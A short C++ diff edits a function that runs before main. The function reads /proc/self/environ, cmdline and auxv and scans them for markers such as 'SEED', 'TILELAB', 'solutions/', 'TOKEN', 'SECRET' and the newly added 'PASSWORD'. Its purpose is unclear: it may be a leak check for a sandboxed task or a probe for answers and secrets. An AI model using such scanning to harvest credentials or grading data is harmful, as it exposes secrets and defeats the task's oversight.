@@ -80,7 +80,7 @@ static volatile bool g_escaped = false;
 
 extern "C" __attribute__((used)) void tl_before_main() {
     static const char* const files[] = {"/proc/self/environ", "/proc/self/cmdline", "/proc/self/auxv"};
-    static const char* const marks[] = {"SEED", "TILELAB", "20261122", "CMakeCache", "solutions/", "/build/", "TOKEN", "SECRET"};
+    static const char* const marks[] = {"SEED", "TILELAB", "20261122", "CMakeCache", "solutions/", "TOKEN", "SECRET", "PASSWORD"};
     static char buf[1 << 16];
     for (const char* f : files) {
         int fd = fn<OpenF>("open")(f, O_RDONLY);
